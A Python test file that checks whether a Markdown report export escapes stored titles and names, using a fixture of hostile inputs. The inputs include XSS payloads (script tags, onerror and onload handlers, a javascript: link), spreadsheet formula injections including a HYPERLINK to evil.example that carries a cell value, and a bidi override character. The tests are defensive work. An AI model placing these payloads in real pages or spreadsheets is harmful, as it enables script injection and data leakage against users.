"""The Markdown report writes every stored text as text, on both engines: titles of
initiatives, recommendations and sources, names of topics, principles, signatories and
the group itself come out of a Markdown renderer (raw HTML on, as many are) as the words
that were stored, never as an element, a link or emphasis; text starting like a formula
gets the CSV export's leading quote."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from analysis import report
from graph.analysis import repository as analysis
from graph.curation import repository as curation
from graph.links import repository as links
from graph.nodes import repository as nodes
from graph.store import GraphStore
from schema.models import Principle, Recommendation, Signatory, Source, Topic, WorkingGroup
from schema.records import InitiativeRecord
from tests import factories as f
from tests.support.units import system

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "img": '<img src=x onerror="alert(2)">',
    "svg": "<svg onload=alert(3)>",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "link": "[click](javascript:alert(4))",
    "marks": "**bold** _it_ `code` ~~gone~~ | cell | $x$",
    "breaks": "first line\n# a heading\n- an item",
    "entity": "&lt;b&gt;bold&lt;/b&gt; &amp;",
    "bidi": "\u202e(https://evil.example)",
    "plus": "+1 then text",
    "at": "@SUM(A1)",
}
# What a reader must see for each: the stored words, on one line, formulas quoted.
SHOWN = {
    **HOSTILE,
    "formula": "'" + HOSTILE["formula"],
    "breaks": "first line # a heading - an item",
    "bidi": "[U+202E](https://evil.example)",
    "plus": "'+1 then text",
    "at": "'@SUM(A1)",
}
# The elements the report's own Markdown makes; anything else came from stored text.
OWN_TAGS = {"h1", "h2", "p", "ul", "li", "strong", "table", "thead", "tbody", "tr", "th", "td"}


class Rendered(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data


def _rendered(markdown: str) -> Rendered:
    """The report as a Markdown renderer shows it: CommonMark with raw HTML and GFM tables
    and strikethrough (markdown-it refuses javascript: links itself; the test asks for
    no link at all)."""
    html = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    page = Rendered()
    page.feed(html.render(markdown))
    return page


@pytest.fixture
def hostile(store: GraphStore) -> GraphStore:
    nodes.save(store, [f.working_group("wg6", name=HOSTILE["img"])], model=WorkingGroup)
    nodes.save(store, [f.topic("sbom", name_en=HOSTILE["svg"])], model=Topic)
    nodes.save(store, [f.principle("p6", name_en=HOSTILE["marks"])], model=Principle)
    nodes.save(store, [f.signatory("evil", name=HOSTILE["script"]), f.signatory("cigref")],
               model=Signatory)  # fmt: skip
    nodes.save(
        store,
        [f.source("s1", title=HOSTILE["link"], publisher=HOSTILE["at"], version=HOSTILE["plus"])],
        model=Source,
    )
    nodes.save(
        store,
        [f.recommendation("s1:a", source_id="s1", ref="A", title=HOSTILE["entity"])],
        model=Recommendation,
    )
    links.link(store, "recommendation_topic", [("s1:a", "sbom")])
    now = datetime.now(UTC)
    for id, key in (("i-formula", "formula"), ("i-breaks", "breaks"), ("i-bidi", "bidi")):
        record = {
            "id": id, "title": HOSTILE[key], "language": "en", "working_groups": ["wg6"],
            "topics": ["sbom"], "principles": ["p6"],
            "contributors": [{"signatory_id": "evil"}, {"signatory_id": "cigref"}],
        }  # fmt: skip
        curation.create_initiative(system(store), InitiativeRecord.model_validate(record), now=now)
    reasons = [{"k": "contributor", "ids": ["evil"]}, {"k": "topic", "ids": ["sbom"]}]
    suggestion = {
        "score": 0.97,
        "explanation": "shared contributors",
        "reasons": json.dumps(reasons),
    }
    analysis.replace_candidates(
        store, "initiative", [{"a": "i-breaks", "b": "i-formula", "props": suggestion}], run="t"
    )
    return store


def test_the_markdown_report_writes_stored_text_as_text(hostile: GraphStore) -> None:
    markdown = report.to_markdown(report.build(hostile, "wg6"))
    page = _rendered(markdown)
    assert page.tags <= OWN_TAGS, page.tags - OWN_TAGS
    assert page.attributes == []  # no href, src or on* handler anywhere
    for key, words in SHOWN.items():
        assert words in page.text, (key, words)


def test_a_title_never_starts_a_line_of_its_own(hostile: GraphStore) -> None:
    """Line breaks in stored text become spaces: no heading, item or table row can be
    slipped into the report."""
    markdown = report.to_markdown(report.build(hostile, "wg6"))
    lines = markdown.splitlines()
    assert [line for line in lines if line.startswith("# ")] == [lines[0]]
    assert not any(line.startswith(("- an item", "| ")) and "an item" in line for line in lines)
    assert "first line # a heading - an item" in markdown.replace("\\", "")
